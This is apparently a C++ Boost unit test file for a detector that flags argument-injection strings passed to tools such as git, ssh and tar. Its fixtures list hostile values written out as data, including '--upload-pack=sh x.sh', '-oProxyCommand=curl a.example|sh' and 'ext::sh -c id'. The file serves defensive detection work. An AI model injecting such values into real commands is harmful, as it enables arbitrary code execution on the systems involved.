#include "detect/arg.hpp"

#include <boost/test/unit_test.hpp>
#include <string>

using gird::detect::Signs;

namespace {

std::string_view seen(std::string_view text) {
  Signs signs;
  gird::detect::arg_signs(text, signs);
  return signs.all().empty() ? std::string_view() : signs.all().front().name;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(arg)

BOOST_AUTO_TEST_CASE(options_that_run_their_value) {
  for (const std::string_view text :
       {"--upload-pack=sh x.sh", "--checkpoint-action=exec=sh x.sh",
        "-oProxyCommand=curl a.example|sh", "-oproxycommand=id", "-c core.pager=id",
        "--config=core.sshCommand=id", "-e sh", "-exec id", "--use-compress-program=id",
        "--proxy-command touch /tmp/x", "\"--exec=id\""}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == "arg/runs"); }
  }
}

BOOST_AUTO_TEST_CASE(options_that_name_files) {
  BOOST_TEST(seen("--load-extension=/tmp/x") == "arg/loads");
  BOOST_TEST(seen("--require=../x") == "arg/loads");
  BOOST_TEST(seen("--output=/tmp/x") == "arg/writes");
  BOOST_TEST(seen("--checkpoint=1") == "arg/writes");
  BOOST_TEST(seen("-o/tmp/x") == "arg/short-path");
  BOOST_TEST(seen("-OQueueDirectory=/tmp -X/var/www/x.php") == "arg/short-path");
}

BOOST_AUTO_TEST_CASE(addresses_that_turn_into_options) {
  BOOST_TEST(seen("ssh://-oProxyCommand=id/x") == "arg/remote");
  BOOST_TEST(seen("ext::sh -c id") == "arg/remote");
  BOOST_TEST(seen("https://a-b.example/-x") == "");
}

BOOST_AUTO_TEST_CASE(what_only_begins_with_a_hyphen) {
  for (const std::string_view text :
       {"", "-", "--", "-5", "- item", "-- A. Writer", "--output=<file>", "--output=FILE",
        "--exec the files", "--grep=<pattern>, commits whose message matches", "-n, --numeric",
        "-e is an option", "--config=..., see below", "x --exec=id"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
  BOOST_TEST(seen("--color=auto") == "arg/option");
  BOOST_TEST(seen("-rf") == "arg/option");
}

BOOST_AUTO_TEST_SUITE_END()
